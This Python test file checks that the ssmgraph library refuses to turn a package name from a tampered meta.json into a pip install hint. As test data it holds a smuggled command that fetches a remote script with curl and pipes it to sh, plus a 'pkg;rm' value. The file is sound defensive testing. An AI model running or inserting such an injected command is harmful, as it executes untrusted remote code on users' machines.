"""What a saved model's meta.json may put into the ``pip install`` hint of a model whose
plugin is missing."""

from __future__ import annotations

import json
from pathlib import Path

import pytest

import ssmgraph
from ssmgraph.serialization import META_FILE, CheckpointError


def _saved_with_blocks(directory: Path, blocks: dict[str, str]) -> Path:
    """A saved model whose meta.json also claims ``blocks`` (block -> package), as a hand-edited file would."""
    text = "ssmgraph: 1\ninputs: {x: {dtype: float32, shape: [batch, seq, 4]}}\nnodes:\n  n: {block: norm.layer, in: x}\noutputs: {y: n}\n"
    ssmgraph.save(ssmgraph.build(ssmgraph.load_blueprint("tiny.yaml", text=text)), directory)
    meta = json.loads((directory / META_FILE).read_text())
    meta["blocks"].update(blocks)
    (directory / META_FILE).write_text(json.dumps(meta))
    return directory


def test_a_package_name_that_is_a_shell_command_is_quoted_not_offered_to_pip(tmp_path) -> None:
    evil = "x && curl https://example.invalid/p | sh"
    directory = _saved_with_blocks(tmp_path / "m", {"mix.gone": evil, "mix.away": "ssmgraph-away"})
    with pytest.raises(CheckpointError) as info:
        ssmgraph.load(directory)
    message = str(info.value)
    assert f"mix.gone (from {evil!r})" in message
    assert "install them with: pip install ssmgraph-away" in message and "pip install x" not in message
    assert "the package given for mix.gone is not a valid package name" in message


@pytest.mark.parametrize("name", ["ssmgraph-away", "A", "zope.interface", "my_pkg2"])
def test_valid_package_names_get_the_install_line(tmp_path, name: str) -> None:
    directory = _saved_with_blocks(tmp_path / "m", {"mix.gone": name})
    with pytest.raises(CheckpointError, match=rf"install them with: pip install {name}$"):
        ssmgraph.load(directory)


@pytest.mark.parametrize("name", ["-e .", "pkg\n", "pkg;rm", ".hidden", "pkg-", "a b"])
def test_invalid_package_names_get_no_install_line(tmp_path, name: str) -> None:
    directory = _saved_with_blocks(tmp_path / "m", {"mix.gone": name})
    with pytest.raises(CheckpointError) as info:
        ssmgraph.load(directory)
    assert "pip install" not in str(info.value) and repr(name) in str(info.value)
